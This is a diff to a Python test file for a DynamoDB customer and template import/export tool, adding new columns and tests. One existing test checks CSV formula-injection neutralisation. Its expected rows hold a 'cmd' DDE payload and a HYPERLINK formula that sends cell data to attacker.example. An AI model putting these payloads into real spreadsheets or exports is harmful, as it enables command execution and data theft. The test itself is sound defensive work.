@@ -23,7 +23,7 @@ from tests.faults import dynamodb_error, dynamodb_ok
 from tests.support import AWS, NOW, TABLE, record_calls
 from tools import importer, rowfiles
 from tools.importer import PATIENCE, Problem, Progress, Summary, export_file, import_file
-from tools.rowfiles import FileError, record_key
+from tools.rowfiles import LETTERHEAD_ROW, FileError, record_key
 from tools.stack import PROJECT_DIR, SAMPLE_ITEMS, create_table
 
 SAMPLES = PROJECT_DIR / "samples"
@@ -937,7 +937,8 @@ def test_a_csv_header_with_unknown_or_repeated_columns_or_no_kind_or_id_is_refus
 
     assert str(refused.value) == (
         f"{path}: the first line must be the header kind,id,name,text,greeting,description,"
-        "locale,attributes (or kind, id and any of the others, in any order)"
+        "locale,markup,pageSize,letterhead,attributes,address "
+        "(or kind, id and any of the others, in any order)"
     )
     assert stored(aws) == SEEDED
 
@@ -1016,8 +1017,9 @@ def test_csv_export_then_import_into_an_empty_table_gives_the_same_items(
 
     assert summary.line() == "exported 6 rows: 4 customers, 2 templates"
     assert exported.read_bytes().startswith(
-        b"kind,id,name,text,greeting,description,locale,attributes\r\n"
-        b"customer,TestCustomer,Testing Customer,,,,,\r\n"
+        b"kind,id,name,text,greeting,description,locale,markup,pageSize,letterhead,"
+        b"attributes,address\r\n"
+        b"customer,TestCustomer,Testing Customer,,,,,,,,,\r\n"
     )
     create_table(aws.dynamodb, "docgen-copy")
     assert counts(run(exported, repository=on_table(slept, "docgen-copy"))) == (6, 6, 0, 0, 0, 0)
@@ -1064,7 +1066,7 @@ def test_a_templates_locale_goes_through_both_formats_and_a_bad_one_is_a_bad_row
         exported_rows
     )
     exported_csv = (tmp_path / "export.csv").read_bytes().decode("utf-8")
-    assert "template,Swiss,,Grüezi,,,de_CH,\r\n" in exported_csv.splitlines(keepends=True)
+    assert "template,Swiss,,Grüezi,,,de_CH,,,,,\r\n" in exported_csv.splitlines(keepends=True)
     assert log.getvalue().splitlines() == [
         f"{tmp_path / 'rows.jsonl'}:2: locale 'xx-YY' {unknown}",
         f"{tmp_path / 'rows.jsonl'}:3: locale must be shorter than or equal to 35 characters",
@@ -1228,13 +1230,13 @@ def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(
     cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
     assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
     assert text.splitlines(keepends=True)[1:8] == [
-        "customer,TestCustomer,Testing Customer,,,,,\r\n",
-        'customer,calc,\'+cmd|\' /C calc\'!A0,,,,,"{""calc"": ""+cmd|\' /C calc\'!A0""}"\r\n',
-        'customer,link,"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",,,,,'
-        '"{""link"": ""=HYPERLINK(\\""http://attacker.example/?d=\\""&A1,\\""Click\\"")""}"\r\n',
-        "customer,marked,''=not a formula,,,,,\r\n",
-        'customer,minus,\'-5,,,,,"{""at"": ""@SUM(A1)""}"\r\n',
-        'customer,quoted,\'\'Tis,,,,,"{""note"": ""\'\'twice""}"\r\n',
+        "customer,TestCustomer,Testing Customer,,,,,,,,,\r\n",
+        'customer,calc,\'+cmd|\' /C calc\'!A0,,,,,,,,"{""calc"": ""+cmd|\' /C calc\'!A0""}",\r\n',
+        'customer,link,"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",,,,,,,,'
+        '"{""link"": ""=HYPERLINK(\\""http://attacker.example/?d=\\""&A1,\\""Click\\"")""}",\r\n',
+        "customer,marked,''=not a formula,,,,,,,,,\r\n",
+        'customer,minus,\'-5,,,,,,,,"{""at"": ""@SUM(A1)""}",\r\n',
+        'customer,quoted,\'\'Tis,,,,,,,,"{""note"": ""\'\'twice""}",\r\n',
         "template,Tabbed,,'\tindented,\"'\r\n",
     ]
     create_table(aws.dynamodb, "docgen-copy")
@@ -1269,3 +1271,51 @@ def test_a_leading_quote_is_data_unless_it_marks_a_formula_or_a_quote(
     assert names["C#formula"] == "=1+1"
     assert names["C#quote"] == "'Tis"
     assert names["C#bare"] == "=1+1"  # imported as written; exported, it gets its mark
+
+
+def test_an_address_markup_and_page_size_go_through_both_formats(
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
+) -> None:
+    address = ["Musterstraße 1", "10115 Berlin"]
+    rows = jsonl(
+        tmp_path,
+        customer("ann", "Ann") | {"address": address},
+        template("Memo", "# Hi", markup="markdown", pageSize="Letter"),
+        customer("long", "Long") | {"address": ["x"] * 7},
+        template("Branded", "x", letterhead="acme"),
+    )
+
+    assert run(rows).problems == [
+        Problem(3, "address must contain less than or equal to 6 items"),
+        Problem(4, LETTERHEAD_ROW),
+    ]
+    assert stored(aws)["C#ann"]["address"] == {"L": [{"S": line} for line in address]}
+    assert stored(aws)["D#Memo"]["markup"] == {"S": "markdown"}
+    for name in ("export.jsonl", "export.csv"):
+        exported = tmp_path / name
+        export_file(exported, on_table(slept), log=log)
+        copy = f"docgen-{exported.suffix[1:]}"
+        create_table(aws.dynamodb, copy)
+        assert counts(run(exported, repository=on_table(slept, copy))) == (4, 4, 0, 0, 0, 0)
+        assert without_version(catalog(aws, copy)) == without_version(catalog(aws))
+    assert "template,Memo,,# Hi,,,,markdown,Letter,,,\r\n" in (
+        (tmp_path / "export.csv").read_bytes().decode("utf-8").splitlines(keepends=True)
+    )
+
+
+def test_a_template_that_names_a_letterhead_is_not_replaced_by_an_import(
+    aws: AWS, run: Any, tmp_path: Path
+) -> None:
+    aws.put_item(PK={"S": "H#acme"}, sender={"M": {"name": {"S": "Acme"}}}, templates={"N": "1"})
+    aws.put_item(PK={"S": "D#Branded"}, data={"S": "x"}, letterhead={"S": "acme"})
+
+    summary = run(jsonl(tmp_path, template("Branded", "y")))
+
+    assert summary.problems == [
+        Problem(
+            1,
+            "not imported: template Branded names letterhead acme, whose count of templates "
+            "the importer does not keep: replace it with PUT /templates/Branded",
+        )
+    ]
+    assert stored(aws)["D#Branded"]["data"] == {"S": "x"}
